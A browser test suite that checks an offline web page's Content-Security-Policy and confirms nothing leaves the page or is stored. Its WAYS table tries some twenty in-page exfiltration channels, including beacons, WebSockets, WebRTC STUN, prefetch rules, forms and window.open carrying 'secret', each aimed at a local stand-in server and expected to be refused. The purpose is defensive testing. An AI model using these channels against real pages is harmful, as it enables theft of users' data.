// Nothing leaves the page: the exact policy of both forms, and every way out, tried in each browser.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import dgram from "node:dgram";
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import { after, before, test } from "node:test";
import { BROWSERS, HEADERS, dist, open, paste, press, root, settled, single, until } from "./page.mjs";

const FORMS = { "index.html": "'self'", "afterpatch.html": "'none'" };

for (const [name, connections] of Object.entries(FORMS)) {
  test(`the policy of ${name} is this and no other`, () => {
    const page = fs.readFileSync(path.join(dist, name), "utf8");
    const hash = ([, text]) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
    const hashes = (element) => [...page.matchAll(element)].map(hash).join(" ");
    const policies = [...page.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/g)];
    assert.deepEqual(policies.map(([, policy]) => policy.split("; ")), [[
      "default-src 'none'",
      `script-src ${hashes(/<script(?: id="engine-glue")?>([^]*?)<\/script>/g)} 'wasm-unsafe-eval'`,
      `style-src ${hashes(/<style>([^]*?)<\/style>/g)}`,
      "img-src data:",
      "manifest-src data:",
      "worker-src blob:",
      `connect-src ${connections}`,
      "base-uri 'none'",
      "form-action 'none'",
      "require-trusted-types-for 'script'",
      "trusted-types afterpatch",
    ]]);
    assert.ok(page.indexOf("<meta http-equiv") < page.search(/<(script|style|link)/), "it stands before all it governs");
    assert.deepEqual(page.match(/<\w[^>]*\s(on\w+|style|nonce)=/gi), null);
  });
}

test("each sample of server settings sends each header", () => {
  const samples = fs.readFileSync(path.join(root, "docs/serving.md"), "utf8").match(/```[^]*?```/g);
  assert.equal(samples.length, 3);
  for (const sample of samples) {
    for (const [name, value] of Object.entries(HEADERS)) {
      assert.ok(sample.split("\n").some((line) => line.includes(name) && line.includes(`"${value}"`)), name);
    }
  }
});

/** Stands for the outside: notes whatever reaches it. */
let outside, datagrams, address;
const reached = [];
before(async () => {
  outside = http.createServer((_, response) => response.writeHead(200, { "access-control-allow-origin": "*" }).end());
  // Chromium opens a connection for a frame before it asks the policy, and closes it unused: what
  // counts is what was said.
  outside.on("connection", (socket) => socket.on("data", (bytes) => reached.push(String(bytes))));
  await new Promise((done) => outside.listen(0, "127.0.0.1", done));
  address = `http://127.0.0.1:${outside.address().port}`;
  datagrams = dgram.createSocket("udp4", (bytes) => reached.push(String(bytes)));
  await new Promise((done) => datagrams.bind(outside.address().port, "127.0.0.1", done));
});
after(() => {
  outside.close();
  datagrams.close();
});

/** Each way out, as a script in the page would try it: what came of it. */
const WAYS = {
  fetch: async (to) => fetch(to, { mode: "no-cors" }),
  "fetch of the page itself": async () => fetch(location.href),
  request: async (to) =>
    new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = fail;
      request.open("POST", to);
      request.send("secret");
    }),
  beacon: async (to) => {
    // The answer says that it was queued; whether it left is for the outside to say.
    navigator.sendBeacon(to, "secret");
    throw new Error("queued");
  },
  image: async (to) =>
    new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: to })),
  socket: async (to) =>
    new Promise((done, fail) =>
      Object.assign(new WebSocket(to.replace("http", "ws")), { onopen: done, onerror: fail })),
  events: async (to) => new Promise((done, fail) => Object.assign(new EventSource(to), { onopen: done, onerror: fail })),
  style: async (to) =>
    new Promise((done, fail) => {
      document.head.append(Object.assign(document.createElement("link"), {
        rel: "stylesheet",
        onload: done,
        onerror: fail,
        href: to,
      }));
    }),
  "files fetched ahead": async (to) => {
    for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "dns-prefetch", "preconnect"]) {
      document.head.append(Object.assign(document.createElement("link"), { rel, as: "script", href: `${to}?secret` }));
    }
    throw new Error("no answer");
  },
  "rules to fetch ahead": async (to) => {
    const rules = JSON.stringify({ prefetch: [{ source: "list", urls: [`${to}?secret`] }] });
    document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", text: rules }));
  },
  "a call to a peer": async (to) => {
    const urls = to.replace("http://", "stun:");
    const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
    peer.createDataChannel("secret");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 500));
  },
  sound: async (to) =>
    new Promise((done, fail) => Object.assign(new Audio(), { oncanplay: done, onerror: fail, src: to })),
  "an object": async (to) => {
    document.body.append(Object.assign(document.createElement("object"), { data: to }));
    throw new Error("no answer");
  },
  script: async (to) =>
    new Promise((done, fail) => {
      const script = document.createElement("script");
      script.onload = done;
      script.onerror = fail;
      script.src = to;
      document.head.append(script);
    }),
  frame: async (to) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: to }));
    throw new Error("no answer");
  },
  form: async (to) => {
    const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
    form.append(Object.assign(document.createElement("input"), { name: "secret", value: "secret" }));
    document.body.append(form);
    form.submit();
    throw new Error("no answer");
  },
  window: async (to) => {
    if (window.open(`${to}?secret`) === null) throw new Error("no window");
  },
  "script in a text": async () => {
    if (globalThis.eval("1") === 1) return;
    throw new Error("not run");
  },
  "a handler in markup": async () => {
    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='1'>");
  },
  "a worker from elsewhere": async (to) => new Worker(to),
};

for (const browser of BROWSERS) {
  for (const at of [undefined, single]) {
    test(`no way out of the ${at ? "single file" : "served page"} in ${browser}`, async (context) => {
      const { address: there, close, page, requests } = await open({ browser, at });
      try {
        const loaded = requests.length;
        for (const [name, way] of Object.entries(WAYS)) {
          // Firefox asks nobody about a file that reads itself: nothing leaves by that.
          if (at && name === "fetch of the page itself") continue;
          // In a task of the page: what the driver runs itself is not under the policy.
          const outcome = await page.evaluate(`new Promise((done) => setTimeout(() =>
            (${way})(${JSON.stringify(address)}).then(() => done("went through"), () => done("refused"))))`);
          assert.equal(outcome, "refused", name);
        }
        await new Promise((done) => setTimeout(done, 500));
        assert.deepEqual(reached, [], "what reached the outside");
        assert.equal(page.url(), there, "the page is still the page");
        context.diagnostic(`${Object.keys(WAYS).length} ways tried, ${reached.length} led out, ${loaded} files loaded`);
      } finally {
        await close();
      }
    });
  }
}

test("no request is made while the corpus is pasted", async (context) => {
  const { close, errors, page, requests } = await open();
  try {
    const loaded = requests.length;
    const folder = path.join(root, "tests/corpus");
    const cases = fs.readdirSync(folder).filter((name) => name.endsWith(".case"));
    for (const name of cases) {
      await paste(page, fs.readFileSync(path.join(folder, name), "utf8"));
      await settled(page);
      await press(page, "Clear all");
      await page.waitForSelector(".start");
    }
    assert.deepEqual(requests.slice(loaded), []);
    const entries = await page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
    assert.deepEqual(entries.filter((name) => !name.startsWith("data:")).length, loaded - 1);
    assert.deepEqual(errors, []);
    context.diagnostic(`${cases.length} cases`);
  } finally {
    await close();
  }
});

/** Where a browser keeps what a page gives it. */
const STORES = /localStorage|sessionStorage|indexedDB|\bcookie|\bcaches\b|serviceWorker|getDirectory/i;

for (const name of Object.keys(FORMS)) {
  test(`no script of ${name} names a place to store things in`, () => {
    const page = fs.readFileSync(path.join(dist, name), "utf8");
    const scripts = [...page.matchAll(/<script(?: id="engine-glue")?>([^]*?)<\/script>/g)].map(([, script]) => script);
    assert.equal(scripts.length, 3);
    assert.deepEqual(scripts.map((script) => script.match(STORES)), [null, null, null]);
  });
}

for (const browser of BROWSERS) {
  test(`nothing is stored in ${browser}`, async () => {
    const { close, page } = await open({ browser });
    try {
      await paste(page, fs.readFileSync(path.join(root, "static/samples/wheezy-packages.txt"), "utf8"));
      await settled(page);
      const stored = () => page.evaluate(async () => [
        document.cookie.length,
        localStorage.length,
        sessionStorage.length,
        (await indexedDB.databases()).length,
        (await caches.keys()).length,
        (await navigator.serviceWorker.getRegistrations()).length,
      ]);
      assert.deepEqual(await stored(), [0, 0, 0, 0, 0, 0]);
      await press(page, "Clear all");
      await page.waitForSelector(".start");
      assert.deepEqual(await stored(), [0, 0, 0, 0, 0, 0]);
    } finally {
      await close();
    }
  });
}

test("the page tells the policy that it is held to, and what it has loaded since", async () => {
  const { close, page } = await open();
  try {
    await page.click(".promise summary");
    const [, policy] = fs.readFileSync(path.join(dist, "index.html"), "utf8").match(/<meta http-equiv="[^"]*" content="([^"]*)">/);
    await page.waitForSelector('.promise [data-requests="0"]');
    await until(page, () => document.querySelectorAll(".promise code").length === 3);
    const codes = await page.$$eval(".promise code", (codes) => codes.map((code) => code.textContent));
    assert.deepEqual(codes.slice(0, 2), [policy, "connect-src 'none'"]);
    const sums = fs.readFileSync(path.join(dist, "SHA256SUMS"), "utf8");
    assert.ok(sums.includes(`${codes[2]}  afterpatch.html`));
  } finally {
    await close();
  }
});
